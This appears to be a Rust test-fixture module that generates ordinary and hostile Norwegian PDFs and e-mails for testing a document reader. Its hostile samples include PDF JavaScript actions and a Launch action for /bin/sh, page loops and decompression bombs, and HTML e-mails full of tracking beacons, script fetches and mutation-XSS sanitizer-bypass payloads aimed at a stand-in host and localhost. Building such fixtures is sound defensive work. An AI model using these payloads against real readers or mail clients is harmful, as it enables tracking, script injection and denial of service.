//! Files that an office or a stranger sends: PDFs and e-mails, well-made and hostile, each from the same bytes at every
//! run.

use lopdf::content::{Content, Operation};
use lopdf::encryption::{EncryptionState, EncryptionVersion, Permissions};
use lopdf::{Dictionary, Document, Object, ObjectId, Stream, StringFormat, dictionary};
use std::fmt::Write as _;

/// A PDF of A4 pages in Norwegian, a line of text on each, in a standard font.
#[must_use]
pub fn pdf(lines: &[String]) -> Vec<u8> {
    bytes_of(&mut document(lines))
}

/// The same, locked with a password.
///
/// # Errors
/// When it cannot be locked.
pub fn locked_pdf(lines: &[String], password: &str) -> Result<Vec<u8>, lopdf::Error> {
    let mut document = document(lines);
    let id = Object::String(b"0123456789abcdef".to_vec(), StringFormat::Literal);
    document.trailer.set("ID", vec![id.clone(), id]);
    let state = EncryptionState::try_from(EncryptionVersion::V2 {
        document: &document,
        owner_password: "eier",
        user_password: password,
        key_length: 128,
        permissions: Permissions::all(),
    })?;
    document.encrypt(&state)?;
    Ok(bytes_of(&mut document))
}

/// A PDF of `lines`, a page each, that carries `bytes` more between its pages and its end.
#[must_use]
pub fn pdf_with_ballast(lines: &[String], bytes: usize) -> Vec<u8> {
    let mut document = document(lines);
    let ballast = (0..bytes).map(|at| (at * 7 % 251) as u8).collect();
    document.add_object(Stream::new(Dictionary::new(), ballast));
    bytes_of(&mut document)
}

/// PDFs that mean no good, each with a name and with what a reader may still make of it.
#[must_use]
pub fn hostile_pdfs() -> Vec<(&'static str, Vec<u8>)> {
    let lines: Vec<String> = (1..=3).map(|page| format!("Side {page} av et vanlig brev")).collect();
    let whole = pdf(&lines);
    let mut scripted = document(&lines);
    let script = "app.launchURL('https://sporing.example/js'); app.alert(1); this.submitForm('https://sporing.example/f');";
    let action = dictionary! { "S" => "JavaScript", "JS" => Object::string_literal(script) };
    let uri = dictionary! { "S" => "URI", "URI" => Object::string_literal("https://sporing.example/uri") };
    if let Ok(catalog) = scripted.catalog_mut() {
        catalog.set("OpenAction", action.clone());
        catalog.set("AA", dictionary! { "WC" => action.clone(), "DP" => uri.clone() });
        let names = vec![Object::string_literal("a"), Object::Dictionary(action)];
        catalog.set("Names", dictionary! { "JavaScript" => dictionary! { "Names" => names } });
    }
    each_page(&mut scripted, |page| {
        page.set("AA", dictionary! { "O" => uri.clone() });
        let link = dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![0.into(), 0.into(), 595.into(), 842.into()],
            "A" => dictionary! { "S" => "Launch", "F" => Object::string_literal("/bin/sh") },
        };
        page.set("Annots", vec![Object::Dictionary(link)]);
    });
    let mut huge_pages = document(&lines);
    each_page(&mut huge_pages, |page| {
        page.set("MediaBox", vec![0.into(), 0.into(), 900_000_000.into(), 900_000_000.into()]);
    });
    let mut miscounted = document(&lines);
    if let Ok(pages) = miscounted.catalog().and_then(|catalog| catalog.get(b"Pages")?.as_reference())
        && let Ok(tree) = miscounted.get_dictionary_mut(pages)
    {
        tree.set("Count", 2_000_000_000);
    }
    let mut fuzzed = whole.clone();
    // The same damage at every run: a multiplicative generator (Park and Miller).
    let mut seed = 20_261_127_u64;
    for _ in 0..fuzzed.len() / 40 {
        seed = seed * 48_271 % 2_147_483_647;
        let at = usize::try_from(seed).unwrap_or_default() % fuzzed.len();
        fuzzed[at] ^= u8::try_from(seed & 0xff).unwrap_or_default();
    }
    vec![
        ("avkuttet", whole[..whole.len() * 2 / 3].to_vec()),
        ("bare begynnelsen", b"%PDF-1.7\n".to_vec()),
        (
            "søppel",
            b"%PDF-1.7\n".iter().copied().chain((0..60_000_u32).map(|at| (at * 7 % 251) as u8)).collect(),
        ),
        ("fuzzet", fuzzed),
        ("skript", bytes_of(&mut scripted)),
        ("sider i ring", looped_pages()),
        ("bilde i seg selv", looped_form()),
        ("enorme sider", bytes_of(&mut huge_pages)),
        ("to milliarder sider", bytes_of(&mut miscounted)),
        ("bombe", bomb()),
        ("bildebombe", picture_bomb()),
    ]
}

fn document(lines: &[String]) -> Document {
    let mut document = Document::with_version("1.7");
    let pages = document.new_object_id();
    let font = document.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica", "Encoding" => "WinAnsiEncoding",
    });
    let mut kids = Vec::with_capacity(lines.len());
    for line in lines {
        let letters = line.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect();
        let operations = vec![
            Operation::new("BT", vec![]),
            Operation::new("Tf", vec!["F1".into(), 18.into()]),
            Operation::new("Td", vec![60.into(), 760.into()]),
            Operation::new("Tj", vec![Object::String(letters, StringFormat::Literal)]),
            Operation::new("ET", vec![]),
        ];
        let content = Content { operations }.encode().unwrap_or_default();
        let content = document.add_object(Stream::new(Dictionary::new(), content));
        kids.push(Object::Reference(page(
            &mut document,
            pages,
            content,
            dictionary! { "Font" => dictionary! { "F1" => font } },
        )));
    }
    finish(&mut document, pages, kids);
    document
}

fn page(document: &mut Document, parent: ObjectId, content: ObjectId, resources: Dictionary) -> ObjectId {
    document.add_object(dictionary! {
        "Type" => "Page", "Parent" => parent, "Contents" => content, "Resources" => resources,
        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    })
}

fn finish(document: &mut Document, pages: ObjectId, kids: Vec<Object>) {
    let count = i64::try_from(kids.len()).unwrap_or_default();
    let tree = dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count };
    document.objects.insert(pages, Object::Dictionary(tree));
    let catalog =
        dictionary! { "Type" => "Catalog", "Pages" => pages, "Lang" => Object::string_literal("nb") };
    let catalog = document.add_object(catalog);
    document.trailer.set("Root", catalog);
}

fn each_page(document: &mut Document, change: impl Fn(&mut Dictionary)) {
    let pages: Vec<ObjectId> = document.get_pages().into_values().collect();
    for id in pages {
        if let Ok(page) = document.get_dictionary_mut(id) {
            change(page);
        }
    }
}

fn bytes_of(document: &mut Document) -> Vec<u8> {
    let mut bytes = Vec::new();
    // Writing to memory does not fail.
    let _ = document.save_to(&mut bytes);
    bytes
}

/// A tree of pages whose branches are their own ancestors.
fn looped_pages() -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let (top, low) = (document.new_object_id(), document.new_object_id());
    for (id, kid) in [(top, low), (low, top)] {
        let tree = dictionary! { "Type" => "Pages", "Kids" => vec![Object::Reference(kid)], "Count" => 1, "Parent" => kid };
        document.objects.insert(id, Object::Dictionary(tree));
    }
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => top });
    document.trailer.set("Root", catalog);
    bytes_of(&mut document)
}

/// A drawing that draws itself.
fn looped_form() -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let (pages, form) = (document.new_object_id(), document.new_object_id());
    let itself = dictionary! { "XObject" => dictionary! { "X" => form } };
    let drawing = Stream::new(
        dictionary! {
            "Type" => "XObject", "Subtype" => "Form", "Resources" => itself.clone(),
            "BBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        },
        b"q /X Do /X Do Q".to_vec(),
    );
    document.objects.insert(form, Object::Stream(drawing));
    let content = document.add_object(Stream::new(Dictionary::new(), b"/X Do".to_vec()));
    let page = page(&mut document, pages, content, itself);
    finish(&mut document, pages, vec![page.into()]);
    bytes_of(&mut document)
}

/// Two hundred megabytes of drawing in two hundred kilobytes.
fn bomb() -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let pages = document.new_object_id();
    let mut packed = Stream::new(Dictionary::new(), b"0 0 m 1 1 l S ".repeat(14_000_000));
    let _ = packed.compress();
    let content = document.add_object(packed);
    let page = page(&mut document, pages, content, Dictionary::new());
    finish(&mut document, pages, vec![page.into()]);
    bytes_of(&mut document)
}

/// A picture of forty thousand by forty thousand pixels.
fn picture_bomb() -> Vec<u8> {
    let mut document = Document::with_version("1.7");
    let pages = document.new_object_id();
    let mut picture = Stream::new(
        dictionary! {
            "Type" => "XObject", "Subtype" => "Image", "Width" => 40_000, "Height" => 40_000,
            "ColorSpace" => "DeviceGray", "BitsPerComponent" => 1,
        },
        vec![0; 40_000 * 5_000],
    );
    let _ = picture.compress();
    let picture = document.add_object(picture);
    let content = document.add_object(Stream::new(Dictionary::new(), b"595 0 0 842 0 0 cm /X Do".to_vec()));
    let page =
        page(&mut document, pages, content, dictionary! { "XObject" => dictionary! { "X" => picture } });
    finish(&mut document, pages, vec![page.into()]);
    bytes_of(&mut document)
}

/// An e-mail with this body in HTML.
#[must_use]
pub fn email(subject: &str, html: &str) -> Vec<u8> {
    format!(
        "From: Avsender <avsender@example.no>\r\nTo: Kari <kari@example.no>\r\nSubject: {subject}\r\n\
         Date: Fri, 5 Jun 2026 12:30:00 +0200\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\
         Content-Transfer-Encoding: 8bit\r\n\r\n{html}"
    )
    .into_bytes()
}

/// E-mails that mean no good, each by what it tries. All of them say `LESBAR TEKST`.
#[must_use]
pub fn hostile_emails() -> Vec<(&'static str, Vec<u8>)> {
    let tracked = "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://sporing.example/m\">\
        <base href=\"https://sporing.example/\"><link rel=\"dns-prefetch\" href=\"//sporing.example\">\
        <link rel=\"preconnect\" href=\"https://sporing.example\"><link rel=\"stylesheet\" href=\"http://127.0.0.1:9/s.css\">\
        <style>@import url(http://127.0.0.1:9/i.css); body{background:url(http://127.0.0.1:9/b.png)}</style>\
        <script src=\"http://127.0.0.1:9/s.js\"></script><script>fetch('http://127.0.0.1:9/f')</script></head>\
        <body onload=\"fetch('http://127.0.0.1:9/o')\" background=\"http://127.0.0.1:9/bg.png\"><p>LESBAR TEKST</p>\
        <img src=\"http://127.0.0.1:9/p.gif\" srcset=\"http://127.0.0.1:9/2.gif 2x\"><img src=\"//127.0.0.1:9/r.gif\">\
        <img src=\"https://sporing.example/p.gif\" onerror=\"fetch('http://127.0.0.1:9/e')\">\
        <picture><source srcset=\"http://127.0.0.1:9/pic.webp\"><img src=\"http://127.0.0.1:9/pic.png\"></picture>\
        <video src=\"http://127.0.0.1:9/v.mp4\" poster=\"http://127.0.0.1:9/v.png\" autoplay></video>\
        <audio src=\"http://127.0.0.1:9/a.mp3\" autoplay></audio><iframe src=\"http://127.0.0.1:9/i.html\"></iframe>\
        <iframe srcdoc=\"<script>fetch('http://127.0.0.1:9/sd')</script>\"></iframe>\
        <object data=\"http://127.0.0.1:9/o.swf\"></object><embed src=\"http://127.0.0.1:9/e.swf\">\
        <svg><image href=\"http://127.0.0.1:9/svg.png\"/><use href=\"http://127.0.0.1:9/u.svg#a\"/></svg>\
        <form action=\"http://127.0.0.1:9/form\"><input name=\"passord\" autofocus onfocus=\"this.form.submit()\"></form>\
        <p style=\"background-image:url('http://127.0.0.1:9/st.png')\">stil</p>\
        <table background=\"http://127.0.0.1:9/t.png\"><tr><td background=\"http://127.0.0.1:9/td.png\">celle</td></tr></table>\
        <a href=\"https://sporing.example/klikk\" ping=\"http://127.0.0.1:9/ping\">Klikk her</a>\
        <a href=\"javascript:fetch('http://127.0.0.1:9/js')\">Ikke denne</a>\
        <a href=\"data:text/html,<script>fetch('http://127.0.0.1:9/d')</script>\">Eller denne</a></body></html>";
    let mutated = "<p>LESBAR TEKST</p><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=http://127.0.0.1:9/mx onerror=fetch('http://127.0.0.1:9/m1')&gt;\"></mglyph></table></mtext></math>\
        <svg></p><style><a id=\"</style><img src=http://127.0.0.1:9/m2 onerror=fetch('http://127.0.0.1:9/m3')>\"></svg>\
        <noscript><p title=\"</noscript><img src=http://127.0.0.1:9/m4>\"></noscript>\
        <form><math><mtext></form><form><mglyph><style></math><img src=http://127.0.0.1:9/m5 onerror=fetch(1)>";
    let external = "From: a@example.no\r\nSubject: Utenfra\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n\
        --x\r\nContent-Type: text/html\r\n\r\n<p>LESBAR TEKST</p><img src=\"cid:a@b\"><img src=\"cid:http://127.0.0.1:9/cid\">\r\n\
        --x\r\nContent-Type: message/external-body; access-type=URL; URL=\"http://127.0.0.1:9/eb\"\r\nContent-ID: <a@b>\r\n\r\n\
        Content-Type: image/png\r\n\r\n--x\r\nContent-Type: image/svg+xml\r\nContent-ID: <http://127.0.0.1:9/cid>\r\n\r\n\
        <svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"http://127.0.0.1:9/svg\"/></svg>\r\n--x--\r\n";
    vec![
        ("sporing", email("Sporing", tracked)),
        ("mutasjon", email("Mutasjon", mutated)),
        ("utenfra", external.as_bytes().to_vec()),
        ("dyp", email("Dyp", &format!("<p>LESBAR TEKST</p>{}", "<div>".repeat(100_000)))),
        ("bred", email("Bred", &format!("<p>LESBAR TEKST</p>{}", "<b>x</b> ".repeat(200_000)))),
        (
            "tabell",
            email(
                "Tabell",
                &format!("<p>LESBAR TEKST</p><table>{}</table>", "<tr><td>1<td>2<td>3".repeat(30_000)),
            ),
        ),
        (
            "lang",
            email(
                "Lang",
                &format!("<p>LESBAR TEKST</p><p>{}</p>", "Dette er en lang epost. ".repeat(400_000)),
            ),
        ),
        (
            "avsnitt",
            email("Avsnitt", &format!("<p>LESBAR TEKST</p>{}", "<p>Et avsnitt til.</p>".repeat(90_000))),
        ),
        ("deler", many_parts(100_000)),
    ]
}

fn many_parts(parts: usize) -> Vec<u8> {
    let mut text = String::from(
        "From: a@example.no\r\nSubject: Deler\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nLESBAR TEKST\r\n",
    );
    for number in 0..parts {
        let _ = write!(
            text,
            "--x\r\nContent-Type: application/pdf; name=\"{number}.pdf\"\r\nContent-Disposition: attachment\r\n\r\n%PDF\r\n"
        );
    }
    text.push_str("--x--\r\n");
    text.into_bytes()
}
